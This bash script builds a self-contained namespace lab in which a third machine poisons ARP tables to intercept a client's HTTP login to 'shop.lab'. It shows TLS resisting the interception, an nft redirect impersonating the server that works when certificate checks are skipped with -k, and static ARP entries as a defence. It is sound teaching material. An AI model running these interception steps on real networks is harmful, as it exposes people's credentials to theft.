#!/bin/bash
# Three machines on one switch, as network namespaces: a client logs in to a server four times while a
# third machine forges ARP answers. Prints what each of them saw. Nothing leaves the machine.
# Needs root, iproute2, curl, openssl, tshark and Python, with lie.py beside it.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
# All namespaces and processes end with the script.
if [ "${1:-}" != inside ]; then
  exec unshare --net --mount --pid --fork --mount-proc --kill-child bash "$0" inside
fi
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
trap exit INT TERM
cd "$work"
mount -t tmpfs tmpfs /run
mkdir /run/netns
printf '127.0.0.1 localhost\n10.0.0.20 shop.lab\n' > hosts
mount --bind hosts /etc/hosts

ip link add switch type bridge
for machine in client:10 server:20 curious:99; do
  name=${machine%:*} number=${machine#*:}
  ip netns add "$name"
  ip link add "to-$name" type veth peer name eth0 address "02:00:00:00:00:$number" netns "$name"
  ip -n "$name" address add "10.0.0.$number/24" dev eth0
  ip -n "$name" link set lo up
  ip -n "$name" link set eth0 up
  ip link set "to-$name" master switch up
done
ip link set switch up
on() { ip netns exec "$@"; }
on curious sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 \
  net.ipv4.conf.eth0.send_redirects=0

# certificate <name>: signed by an authority that the client trusts, or by nobody else
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj '/CN=Lab authority' \
  -keyout ca.key -out ca.crt 2> openssl.log
printf 'subjectAltName=DNS:shop.lab\n' > shop.ext
openssl req -newkey rsa:2048 -nodes -subj /CN=shop.lab -keyout server.key -out server.csr 2> openssl.log
openssl x509 -req -in server.csr -CA ca.crt -CAkey ca.key -days 2 -extfile shop.ext \
  -out server.crt 2> openssl.log
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=shop.lab -addext subjectAltName=DNS:shop.lab \
  -keyout curious.key -out curious.crt 2> openssl.log

cat > shop.py <<'END'
import http.server, ssl, sys, threading

class Shop(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"welcome\n")

    def log_message(self, _format, line, *_rest):
        print(line, flush=True)

name = sys.argv[1]
plain = http.server.ThreadingHTTPServer(("", 8080), Shop)
secure = http.server.ThreadingHTTPServer(("", 8443), Shop)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(f"{name}.crt", f"{name}.key")
secure.socket = context.wrap_socket(secure.socket, server_side=True)
threading.Thread(target=plain.serve_forever, daemon=True).start()
secure.serve_forever()
END
# serve <machine>
serve() {
  ip netns exec "$1" python3 shop.py "$1" > "$1.log" 2>&1 &
  until on "$1" curl -s -o /dev/null http://127.0.0.1:8080/ready; do sleep 0.1; done
}
recorders=()
# record <machine> <file>
record() {
  ip netns exec "$1" tcpdump -q -U -i eth0 -w "$2" 'arp or tcp' 2> "$2.log" &
  recorders+=($!)
  until grep -qs listening "$2.log"; do sleep 0.1; done
}
end_records() {
  sleep 1
  kill "${recorders[@]}"
  wait "${recorders[@]}" || true
  recorders=()
}
title() { printf '\n# %s\n' "$*"; }
LOGIN='/login?user=alice&pw=hunter2'
http() { on client curl -s "http://shop.lab:8080$LOGIN"; }
https() { on client curl -sS "$@" "https://shop.lab:8443$LOGIN" 2>&1 | head -1; }
# lie_to <listener> <number> <number of the address to claim>
lie_to() { ip netns exec curious python3 "$here/lie.py" eth0 "02:00:00:00:00:$2" "10.0.0.$2" "10.0.0.$3" & }
show() { tshark -n -r "$1" "${@:2}" 2> tshark.log; }
believes() { until on "$1" ip neigh | grep -q 02:00:00:00:00:99; do sleep 0.2; done; }

serve server
title 'the login, at the client'
record client client.pcap
record curious curious.pcap
http
end_records
show client.pcap -T fields -e eth.src -e eth.dst -e _ws.col.Info | head -8
title 'the same login, at the curious machine'
show curious.pcap -T fields -e eth.src -e eth.dst -e _ws.col.Info
title 'the table of the client, before'
on client ip neigh show 10.0.0.20

lie_to client 10 20
lie_to server 20 10
believes client
believes server
title 'and after the forged answers'
on client ip neigh show 10.0.0.20
record curious lied.pcap
http
end_records
title 'what the curious machine read'
show lied.pcap -Y 'http.request && eth.dst == 02:00:00:00:00:99' \
  -T fields -e eth.src -e eth.dst -e ip.src -e ip.dst -e http.request.uri
title 'what marks the lie'
show lied.pcap -Y arp.duplicate-address-detected -T fields -e _ws.expert.message | sort -u

title 'the login over HTTPS, with the machine still in the middle'
record curious tls.pcap
https --cacert ca.crt
end_records
show tls.pcap -Y 'tls && eth.dst == 02:00:00:00:00:99' -T fields \
  -e ip.src -e frame.len -e tls.handshake.extensions_server_name -e _ws.col.Info

serve curious
on curious nft -f - << 'RULES'
table ip impostor {
  chain prerouting {
    type nat hook prerouting priority dstnat;
    ip daddr 10.0.0.20 tcp dport { 8080, 8443 } redirect
  }
}
RULES
title 'the machine answers itself, as shop.lab'
https --cacert ca.crt
title 'the same with -k'
https -k
grep login curious.log

title 'a fixed entry at the client alone'
on curious nft delete table ip impostor
on client ip neigh replace 10.0.0.20 lladdr 02:00:00:00:00:20 dev eth0 nud permanent
record curious one.pcap
http
end_records
echo "requests $(show one.pcap -Y 'http.request && eth.src == 02:00:00:00:00:10' | wc -l)," \
  "answers $(show one.pcap -Y 'http.response && eth.src == 02:00:00:00:00:20' | wc -l)"
title 'and at both ends'
on server ip neigh replace 10.0.0.10 lladdr 02:00:00:00:00:10 dev eth0 nud permanent
record curious both.pcap
http
end_records
echo "requests $(show both.pcap -Y http.request | wc -l), answers $(show both.pcap -Y http.response | wc -l)"
